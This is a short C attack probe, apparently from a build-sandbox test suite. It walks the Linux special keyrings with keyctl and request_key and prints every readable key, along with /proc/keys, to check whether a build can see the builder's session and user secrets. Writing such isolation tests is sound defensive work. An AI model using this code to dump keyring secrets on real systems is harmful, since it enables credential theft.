// Reads the keys of the builder's session and user.
#include "attack.h"

static long keyctl(int operation, long a, long b, long c) {
    return syscall(SYS_keyctl, operation, a, b, c, 0);
}

int main(void) {
    int32_t keys[1024];
    for (int ring = -1; ring >= -7; ring--) {
        long length = keyctl(11 /* KEYCTL_READ */, ring, (long)keys, sizeof keys);
        for (long i = 0; i * 4 < length && i < 1024; i++) {
            char text[4096];
            long count = keyctl(11, keys[i], (long)text, sizeof text);
            if (count > 0)
                fwrite(text, 1, (size_t)(count < 4096 ? count : 4096), stdout);
        }
    }
    for (int i = 0; i < 2; i++) {
        long key = syscall(SYS_request_key, "user", "kiln-attack", NULL, 0);
        char text[4096];
        long count = keyctl(11, key, (long)text, sizeof text);
        if (count > 0)
            fwrite(text, 1, (size_t)(count < 4096 ? count : 4096), stdout);
    }
    show_path("/proc/keys");
    return over();
}
